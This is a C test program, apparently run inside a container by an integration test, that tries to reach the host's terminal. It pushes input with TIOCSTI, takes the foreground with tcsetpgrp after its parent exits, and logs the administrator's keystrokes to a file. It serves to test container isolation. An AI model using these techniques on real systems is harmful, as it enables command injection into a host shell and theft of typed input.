/* Run inside a container by tests/it/terminal.rs: everything a hostile
 * process does to reach the terminal of whoever started it (TIOCSTI, the
 * CVE-2017-5226 class; tcsetpgrp after its parent returned, CVE-2016-2779).
 * It reports what it holds; the test decides, from the host, whether any of
 * it is the host's terminal. Usage: attack [flood] [linger] */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <termios.h>
#include <unistd.h>

static void report(const char *what, int fd) {
    struct stat st;
    if (fd < 0 || fstat(fd, &st) != 0) {
        printf("%s none %s\n", what, strerror(errno));
        return;
    }
    printf("%s dev=%u:%u rdev=%u:%u", what, major(st.st_dev), minor(st.st_dev),
           major(st.st_rdev), minor(st.st_rdev));
    /* The terminal behind /dev/tty and /dev/console, and whose it is. */
    unsigned int real;
    pid_t tsid;
    if (ioctl(fd, TIOCGDEV, &real) == 0)
        printf(" real=%u:%u", major(real), minor(real));
    if (ioctl(fd, TIOCGSID, &tsid) == 0)
        printf(" tsid=%d", (int)tsid);
    printf(" tty=%d\n", isatty(fd));
}

static int inject(int fd) {
    const char *s = "echo INJECTED-BY-CONTAINER\n";
    int n = 0;
    for (const char *p = s; *p; p++)
        if (ioctl(fd, TIOCSTI, p) == 0)
            n++;
    return n;
}

int main(int argc, char **argv) {
    int flood = 0, linger = 0;
    for (int i = 1; i < argc; i++) {
        flood |= !strcmp(argv[i], "flood");
        linger |= !strcmp(argv[i], "linger");
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("sid=%d pid=%d\n", (int)getsid(0), (int)getpid());
    report("fd0", 0);
    report("fd1", 1);
    report("fd2", 2);
    int t = open("/dev/tty", O_RDWR | O_NOCTTY);
    report("tty", t);
    int c = open("/dev/console", O_RDWR | O_NOCTTY);
    report("console", c);
    if (flood) {
        /* Stall the relay: far more than any pty or pipe buffer. */
        static char line[1024];
        memset(line, 'x', sizeof line - 1);
        line[sizeof line - 1] = '\n';
        for (int i = 0; i < 2048; i++)
            if (write(1, line, sizeof line) < 0)
                break;
    }
    int fds[5] = {0, 1, 2, t, c};
    for (int i = 0; i < 5; i++)
        if (fds[i] >= 0)
            printf("sti%d=%d\n", i, inject(fds[i]));
    if (linger && fork() == 0) {
        /* Outlive the command: take the terminal's foreground once whoever
         * started us is back at its prompt, push input, and read what the
         * admin types next. */
        signal(SIGTTOU, SIG_IGN);
        signal(SIGTTIN, SIG_IGN);
        signal(SIGHUP, SIG_IGN);
        sleep(2);
        for (int i = 0; i < 5; i++)
            if (fds[i] >= 0) {
                tcsetpgrp(fds[i], getpgrp());
                inject(fds[i]);
            }
        int fl = fcntl(0, F_GETFL);
        fcntl(0, F_SETFL, fl | O_NONBLOCK);
        char buf[256];
        int fd = open("/stolen", O_WRONLY | O_CREAT | O_APPEND, 0644);
        for (int i = 0; i < 40; i++) {
            ssize_t n = read(0, buf, sizeof buf);
            if (n > 0 && fd >= 0)
                write(fd, buf, n);
            usleep(100000);
        }
        _exit(0);
    }
    printf("attack done\n");
    return 0;
}
